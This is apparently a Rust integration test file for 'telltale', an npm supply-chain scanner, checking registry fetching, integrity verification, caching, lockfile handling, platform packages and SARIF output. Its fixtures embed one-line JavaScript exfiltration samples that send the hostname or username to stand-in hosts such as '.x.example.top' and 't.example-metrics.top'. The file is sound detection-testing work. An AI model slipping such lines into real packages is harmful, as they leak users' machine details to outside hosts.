//! `npm:` targets through a registry served on loopback (hermetic).

mod common;

use std::process::Command;
use telltale_registry::testing::{sri, FakeRegistry};

/// An npm tarball holding `package/package.json` and `package/index.js`.
fn tarball(index_js: &str) -> Vec<u8> {
    common::npm_package(&[
        ("package.json", r#"{"name":"demo","version":"1.0.0"}"#),
        ("index.js", index_js),
    ])
}

fn scan(
    reg: &FakeRegistry,
    cache: &std::path::Path,
    args: &[&str],
) -> (Option<i32>, serde_json::Value) {
    let out = Command::new(env!("CARGO_BIN_EXE_telltale"))
        .args([
            "scan",
            "--format",
            "json",
            "--platform",
            "none",
            "--registry",
            &reg.url,
        ])
        .args(args)
        .env("TELLTALE_CACHE_DIR", cache)
        .output()
        .unwrap();
    (
        out.status.code(),
        serde_json::from_slice(&out.stdout).unwrap(),
    )
}

#[test]
fn npm_target_is_fetched_verified_scanned_and_cached() {
    let bad =
        tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
    let reg = FakeRegistry::new(&[("demo", "1.0.0", &bad, serde_json::json!({}))], &sri);
    let cache = tempfile::tempdir().unwrap();
    let (code, doc) = scan(&reg, cache.path(), &["npm:demo@^1"]);
    assert_eq!(code, Some(1), "{doc}");
    let t = &doc["targets"][0];
    assert_eq!(t["target"], "npm:demo@1.0.0");
    assert!(t["source"].as_str().unwrap().contains("sha512-"), "{t}");
    assert!(
        t["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["category"] == "exfiltration" && f["file"] == "package/index.js"),
        "{t}"
    );
    // Offline, from the cache.
    let (code, doc) = scan(&reg, cache.path(), &["--offline", "npm:demo@1.0.0"]);
    assert_eq!(code, Some(1), "{doc}");
    assert!(doc["targets"][0]["source"]
        .as_str()
        .unwrap()
        .contains("from the cache"));
    // A cache tampered with after the download: checked while it decompresses, and nothing
    // read from it is reported.
    let cached = cache.path().join("npm/tarballs/demo-1.0.0.tgz");
    assert!(cached.is_file(), "the cache layout changed");
    std::fs::write(&cached, tarball("module.exports = 'swapped in the cache';")).unwrap();
    let (code, doc) = scan(&reg, cache.path(), &["--offline", "npm:demo@1.0.0"]);
    assert_eq!(code, Some(2), "{doc}");
    let t = &doc["targets"][0];
    assert!(
        t["error"]
            .as_str()
            .unwrap()
            .contains("integrity check failed"),
        "{t}"
    );
    assert!(t["findings"].as_array().unwrap().is_empty());
}

#[test]
fn npm_target_with_wrong_integrity_is_an_error() {
    let reg = FakeRegistry::new(
        &[(
            "demo",
            "1.0.0",
            &tarball("module.exports = 1;"),
            serde_json::json!({}),
        )],
        &|_| sri(b"something else"),
    );
    let cache = tempfile::tempdir().unwrap();
    let (code, doc) = scan(&reg, cache.path(), &["npm:demo"]);
    assert_eq!(code, Some(2));
    assert!(
        doc["targets"][0]["error"]
            .as_str()
            .unwrap()
            .contains("integrity check failed"),
        "{doc}"
    );
}

/// Code scanning and workflow annotations put what a lockfile's package holds on the
/// lockfile's line for it (the file inside the package as a related location), in SARIF that
/// still validates against the 2.1.0 schema.
#[test]
fn lockfile_findings_land_on_the_lockfile_line() {
    let bad =
        tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
    let reg = FakeRegistry::new(&[("bad", "1.0.0", &bad, serde_json::json!({}))], &sri);
    let dir = tempfile::tempdir().unwrap();
    let lock = serde_json::json!({ "lockfileVersion": 3, "packages": {
        "": { "name": "app" },
        "node_modules/bad": { "version": "1.0.0", "resolved": format!("{}bad/-/1.0.0.tgz", reg.url), "integrity": sri(&bad) }
    }});
    let text = serde_json::to_string_pretty(&lock).unwrap();
    let line = text
        .lines()
        .position(|l| l.contains("\"node_modules/bad\""))
        .unwrap()
        + 1;
    let path = dir.path().join("package-lock.json");
    std::fs::write(&path, &text).unwrap();
    let run = |format: &str| {
        let out = Command::new(env!("CARGO_BIN_EXE_telltale"))
            .args(["scan", "--platform", "none", "--registry", &reg.url])
            .args(["--format", format])
            .arg(&path)
            .env("TELLTALE_CACHE_DIR", dir.path().join("cache"))
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let sarif: serde_json::Value = serde_json::from_str(&run("sarif")).unwrap();
    common::assert_valid_sarif(&sarif);
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let exfil = results
        .iter()
        .find(|r| r["ruleId"] == "TT102")
        .unwrap_or_else(|| panic!("{sarif:#}"));
    let at = &exfil["locations"][0]["physicalLocation"];
    assert!(
        at["artifactLocation"]["uri"]
            .as_str()
            .unwrap()
            .ends_with("package-lock.json"),
        "{at}"
    );
    assert_eq!(at["region"]["startLine"], line, "{at}");
    let related = &exfil["relatedLocations"][0]["physicalLocation"];
    assert_eq!(
        related["artifactLocation"]["uri"], "package/index.js",
        "{related}"
    );
    let github = run("github");
    assert!(
        github.lines().any(|l| l.starts_with("::error file=")
            && l.contains(&format!("package-lock.json,line={line},"))
            && l.contains("::npm:bad@1.0.0: ")),
        "{github}"
    );
}

#[test]
fn lockfile_packages_are_fetched_and_scanned_each() {
    let bad =
        tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
    let good = tarball("module.exports = (a, b) => a + b;");
    let reg = FakeRegistry::new(
        &[
            ("bad", "1.0.0", &bad, serde_json::json!({})),
            ("good", "2.0.0", &good, serde_json::json!({})),
        ],
        &sri,
    );
    let dir = tempfile::tempdir().unwrap();
    let lock = serde_json::json!({ "lockfileVersion": 3, "packages": {
        "": { "name": "app" },
        "node_modules/bad": { "version": "1.0.0", "resolved": format!("{}bad/-/1.0.0.tgz", reg.url), "integrity": sri(&bad) },
        "node_modules/good": { "version": "2.0.0", "resolved": format!("{}good/-/2.0.0.tgz", reg.url), "integrity": sri(b"not what the registry has") },
        "node_modules/local": { "resolved": "packages/local", "link": true }
    }});
    let path = dir.path().join("package-lock.json");
    std::fs::write(&path, serde_json::to_vec(&lock).unwrap()).unwrap();
    let (code, doc) = scan(&reg, dir.path(), &[path.to_str().unwrap()]);
    assert_eq!(code, Some(1), "{doc}");
    let targets = doc["targets"].as_array().unwrap();
    assert!(
        targets[0]["source"]
            .as_str()
            .unwrap()
            .contains("2 registry packages"),
        "{}",
        targets[0]
    );
    assert!(
        targets[0]["warnings"][0]
            .as_str()
            .unwrap()
            .contains("skipped local"),
        "{}",
        targets[0]
    );
    let by_name = |n: &str| {
        targets
            .iter()
            .find(|t| t["target"] == n)
            .unwrap_or_else(|| panic!("{n} in {doc}"))
    };
    assert!(!by_name("npm:bad@1.0.0")["findings"]
        .as_array()
        .unwrap()
        .is_empty());
    assert!(by_name("npm:good@2.0.0")["error"]
        .as_str()
        .unwrap()
        .contains("lockfile's integrity"));
}

/// A tarball of `package/…` files.
fn package(files: &[(&str, &str)]) -> Vec<u8> {
    common::npm_package(files)
}

fn scan_with(
    reg: &FakeRegistry,
    cache: &std::path::Path,
    args: &[&str],
) -> (Option<i32>, serde_json::Value) {
    let out = Command::new(env!("CARGO_BIN_EXE_telltale"))
        .args([
            "scan",
            "--no-config",
            "--format",
            "json",
            "--registry",
            &reg.url,
        ])
        .args(args)
        .env("TELLTALE_CACHE_DIR", cache)
        .output()
        .unwrap();
    (
        out.status.code(),
        serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr))),
    )
}

/// The amp shape: a launcher whose bin is inside a dependency, that dependency's bin a
/// placeholder, its program in a platform package (with others listed but never published).
fn launcher_tarball() -> Vec<u8> {
    package(&[(
        "package.json",
        r#"{"name":"@demo/launcher","version":"1.0.0","bin":{"demo":"node_modules/@demo/cli/bin/demo.exe"},"dependencies":{"@demo/cli":"1.0.0"}}"#,
    )])
}

fn launcher_registry() -> FakeRegistry {
    let launcher = launcher_tarball();
    let cli = package(&[
        (
            "package.json",
            r#"{"name":"@demo/cli","version":"1.0.0","bin":{"demo":"bin/demo.exe"},"optionalDependencies":{"@demo/cli-linux-x64":"1.0.0","@demo/cli-darwin-arm64":"1.0.0","@demo/cli-win32-x64":"1.0.0"}}"#,
        ),
        ("bin/demo.exe", "echo not installed\n"),
    ]);
    let linux = package(&[
        (
            "package.json",
            r#"{"name":"@demo/cli-linux-x64","version":"1.0.0","os":["linux"],"cpu":["x64"]}"#,
        ),
        (
            "demo.js",
            "require('https').get('https://t.example-metrics.top/?h=' + require('os').hostname());",
        ),
    ]);
    let darwin = package(&[
        (
            "package.json",
            r#"{"name":"@demo/cli-darwin-arm64","version":"1.0.0"}"#,
        ),
        ("demo.js", "module.exports = 'mac';"),
    ]);
    FakeRegistry::new(
        &[
            (
                "@demo/launcher",
                "1.0.0",
                &launcher,
                serde_json::json!({ "dependencies": { "@demo/cli": "1.0.0" } }),
            ),
            (
                "@demo/cli",
                "1.0.0",
                &cli,
                serde_json::json!({ "optionalDependencies": { "@demo/cli-linux-x64": "1.0.0", "@demo/cli-darwin-arm64": "1.0.0", "@demo/cli-win32-x64": "1.0.0" } }),
            ),
            (
                "@demo/cli-linux-x64",
                "1.0.0",
                &linux,
                serde_json::json!({ "os": ["linux"], "cpu": ["x64"] }),
            ),
            (
                "@demo/cli-darwin-arm64",
                "1.0.0",
                &darwin,
                serde_json::json!({ "os": ["darwin"], "cpu": ["arm64"] }),
            ),
        ],
        &sri,
    )
}

#[test]
fn a_launcher_is_followed_to_the_program_in_its_dependency_and_platform_package() {
    let reg = launcher_registry();
    let cache = tempfile::tempdir().unwrap();
    let (code, doc) = scan_with(
        &reg,
        cache.path(),
        &["--platform", "linux-x64", "npm:@demo/launcher@1.0.0"],
    );
    let targets = doc["targets"].as_array().unwrap();
    let names: Vec<&str> = targets
        .iter()
        .map(|t| t["target"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "npm:@demo/launcher@1.0.0",
            "npm:@demo/cli@1.0.0 (run by @demo/launcher@1.0.0)",
            "npm:@demo/cli-linux-x64@1.0.0 (platform package of @demo/cli@1.0.0)",
        ],
        "only this platform's package is fetched, the unpublished win32 one is no error: {doc}"
    );
    assert_eq!(targets[1]["delegated_from"], "@demo/launcher");
    assert_eq!(
        targets[1]["delegation"],
        "its bin demo is node_modules/@demo/cli/bin/demo.exe"
    );
    assert_eq!(targets[2]["platform_of"], "@demo/cli");
    assert!(
        targets[2]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["category"] == "exfiltration"),
        "the program is reached: {}",
        targets[2]
    );
    assert!(
        targets.iter().all(|t| t["coverage"]["complete"] == true),
        "{doc}"
    );
    assert_eq!(code, Some(1));
    // A platform with no package of its own: the product is not fully analysed, and says so.
    let (_, doc) = scan_with(
        &reg,
        cache.path(),
        &["--platform", "linux-arm64", "npm:@demo/launcher@1.0.0"],
    );
    let cli = doc["targets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["package"] == "@demo/cli")
        .unwrap_or_else(|| panic!("{doc}"));
    assert_eq!(cli["coverage"]["complete"], false, "{cli}");
    assert!(
        cli["coverage"]["unanalysed"][0]["why"]
            .as_str()
            .unwrap()
            .contains("none of its 3 platform packages is for linux-arm64"),
        "{cli}"
    );
    // A hand-over that cannot be fetched is a gap, not silence.
    let alone = FakeRegistry::new(
        &[(
            "@demo/launcher",
            "1.0.0",
            &launcher_tarball(),
            serde_json::json!({ "dependencies": { "@demo/cli": "1.0.0" } }),
        )],
        &sri,
    );
    let (code, doc) = scan_with(
        &alone,
        tempfile::tempdir().unwrap().path(),
        &["--platform", "none", "npm:@demo/launcher@1.0.0"],
    );
    let first = &doc["targets"][0]["coverage"];
    assert_eq!(first["complete"], false, "{doc}");
    assert!(
        first["unanalysed"][0]["why"]
            .as_str()
            .unwrap()
            .contains("could not be fetched"),
        "{first}"
    );
    assert_eq!(code, Some(1), "incomplete fails by default");
}

#[test]
fn a_platform_package_listed_but_not_published_is_a_gap() {
    let reg = launcher_registry();
    let cache = tempfile::tempdir().unwrap();
    let (code, doc) = scan_with(
        &reg,
        cache.path(),
        &["--platform", "win32-x64", "npm:@demo/cli@1.0.0"],
    );
    let targets = doc["targets"].as_array().unwrap();
    assert_eq!(
        targets.len(),
        1,
        "nothing fetched for other platforms: {doc}"
    );
    let c = &targets[0]["coverage"];
    assert_eq!(c["complete"], false, "{c}");
    assert_eq!(c["unanalysed"][0]["path"], "npm:@demo/cli-win32-x64");
    assert!(
        c["unanalysed"][0]["why"]
            .as_str()
            .unwrap()
            .contains("listed but not published"),
        "{c}"
    );
    assert_eq!(code, Some(1));
    let bad = Command::new(env!("CARGO_BIN_EXE_telltale"))
        .args(["scan", "--platform", "linux-amd64", "npm:x"])
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&bad.stderr).contains("not a processor npm knows"),
        "{}",
        String::from_utf8_lossy(&bad.stderr)
    );
}

#[test]
fn deps_scans_the_install_closure_with_one_label_for_the_product() {
    let app = package(&[
        (
            "package.json",
            r#"{"name":"app","version":"1.0.0","dependencies":{"lib-a":"^1.0.0","lib-b":"1.0.0"}}"#,
        ),
        ("index.js", "module.exports = require('lib-a');"),
    ]);
    let a = package(&[("package.json", r#"{"name":"lib-a","version":"1.2.0","dependencies":{"lib-b":"^1.0.0"}}"#), ("index.js", "require('https').get('https://t.example-metrics.top/?u=' + require('os').userInfo().username);")]);
    let b = package(&[("package.json", r#"{"name":"lib-b","version":"1.0.0"}"#), ("index.js", "fetch('https://api.mixpanel.com/track', {method: 'POST', body: require('os').hostname()});")]);
    let reg = FakeRegistry::new(
        &[
            (
                "app",
                "1.0.0",
                &app,
                serde_json::json!({ "dependencies": { "lib-a": "^1.0.0", "lib-b": "1.0.0" } }),
            ),
            (
                "lib-a",
                "1.2.0",
                &a,
                serde_json::json!({ "dependencies": { "lib-b": "^1.0.0" } }),
            ),
            ("lib-b", "1.0.0", &b, serde_json::json!({})),
        ],
        &sri,
    );
    let cache = tempfile::tempdir().unwrap();
    let (_, doc) = scan_with(
        &reg,
        cache.path(),
        &["--platform", "none", "--deps", "npm:app"],
    );
    let targets = doc["targets"].as_array().unwrap();
    let names: Vec<&str> = targets
        .iter()
        .map(|t| t["target"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "product npm:app@1.0.0 (3 packages)",
            "npm:app@1.0.0",
            "npm:lib-a@1.2.0 (dependency of app@1.0.0)",
            "npm:lib-b@1.0.0 (dependency of app@1.0.0)"
        ],
        "each package once: {doc}"
    );
    let label = &targets[0]["label"];
    let by_kind = |k: &str| {
        label["collects"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["kind"] == k)
            .unwrap_or_else(|| panic!("{k}: {label}"))
            .clone()
    };
    assert_eq!(
        by_kind("username")["packages"],
        serde_json::json!(["lib-a@1.2.0"])
    );
    assert_eq!(
        by_kind("hostname")["packages"],
        serde_json::json!(["lib-b@1.0.0"])
    );
    let mixpanel = label["destinations"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["host"] == "api.mixpanel.com")
        .unwrap_or_else(|| panic!("{label}"));
    assert_eq!(mixpanel["packages"], serde_json::json!(["lib-b@1.0.0"]));
    assert_eq!(targets[2]["dependency_of"], "app");
    assert_eq!(targets[0]["coverage"]["complete"], true);
}

#[test]
fn deps_links_a_dependencys_region_detector_to_the_package_that_branches_on_it() {
    // serverless → @serverless/utils/is-in-china: the detector is one package, the mirror
    // choice another; only the closure scan sees both.
    let app = package(&[
        (
            "package.json",
            r#"{"name":"cli","version":"1.0.0","dependencies":{"@geo/utils":"^1.0.0"}}"#,
        ),
        (
            "lib/download.js",
            r#"const isInChina = require("@geo/utils/is-in-china");
            const https = require("https");
            module.exports = () => https.get(isInChina ? "https://sls.tencentcs.com/latest" : "https://github.com/x/releases/latest");"#,
        ),
    ]);
    let utils = package(&[
        (
            "package.json",
            r#"{"name":"@geo/utils","version":"1.2.0","main":"index.js"}"#,
        ),
        ("index.js", "module.exports = {};"),
        (
            "is-in-china.js",
            r#"module.exports = new Intl.DateTimeFormat("en", { timeZoneName: "long" }).format().includes("China Standard Time");"#,
        ),
    ]);
    let reg = FakeRegistry::new(
        &[
            (
                "cli",
                "1.0.0",
                &app,
                serde_json::json!({ "dependencies": { "@geo/utils": "^1.0.0" } }),
            ),
            ("@geo/utils", "1.2.0", &utils, serde_json::json!({})),
        ],
        &sri,
    );
    let cache = tempfile::tempdir().unwrap();
    let region = |doc: &serde_json::Value, target: usize| -> Vec<serde_json::Value> {
        doc["targets"][target]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule"] == "TT201")
            .cloned()
            .collect()
    };
    // Alone, the CLI branches on a module it does not carry: nothing to say.
    let (_, alone) = scan_with(&reg, cache.path(), &["--platform", "none", "npm:cli"]);
    assert!(region(&alone, 0).is_empty(), "{alone}");
    let (_, doc) = scan_with(
        &reg,
        cache.path(),
        &["--platform", "none", "--deps", "npm:cli"],
    );
    assert_eq!(doc["targets"][1]["target"], "npm:cli@1.0.0", "{doc}");
    let found = region(&doc, 1);
    assert_eq!(found.len(), 1, "{doc}");
    assert_eq!(found[0]["severity"], "low", "{found:?}");
    assert_eq!(
        found[0]["countries"],
        serde_json::json!(["CN"]),
        "{found:?}"
    );
    assert!(
        found[0]["message"]
            .as_str()
            .unwrap()
            .contains("mirror or endpoint"),
        "{found:?}"
    );
    let steps = found[0]["flow"].to_string();
    assert!(steps.contains("@geo/utils/is-in-china"), "{steps}");
    // The detector itself is reported where it is, as info.
    let detector = region(&doc, 2);
    assert_eq!(detector.len(), 1, "{doc}");
    assert_eq!(detector[0]["severity"], "info");
    assert_eq!(
        doc["targets"][0]["label"]["regions"][0]["countries"],
        serde_json::json!(["CN"])
    );
    // A lockfile's packages are one scan too.
    let dir = tempfile::tempdir().unwrap();
    let lock = serde_json::json!({ "lockfileVersion": 3, "packages": {
        "": { "name": "app" },
        "node_modules/cli": { "version": "1.0.0", "resolved": format!("{}cli/-/1.0.0.tgz", reg.url), "integrity": sri(&app) },
        "node_modules/@geo/utils": { "version": "1.2.0", "resolved": format!("{}@geo/utils/-/1.2.0.tgz", reg.url), "integrity": sri(&utils) },
    }});
    let path = dir.path().join("package-lock.json");
    std::fs::write(&path, serde_json::to_vec(&lock).unwrap()).unwrap();
    let (_, doc) = scan_with(
        &reg,
        cache.path(),
        &["--platform", "none", path.to_str().unwrap()],
    );
    let cli = doc["targets"]
        .as_array()
        .unwrap()
        .iter()
        .position(|t| t["target"] == "npm:cli@1.0.0")
        .unwrap_or_else(|| panic!("{doc}"));
    let found = region(&doc, cli);
    assert_eq!(found.len(), 1, "{doc}");
    assert_eq!(found[0]["severity"], "low", "{found:?}");
}
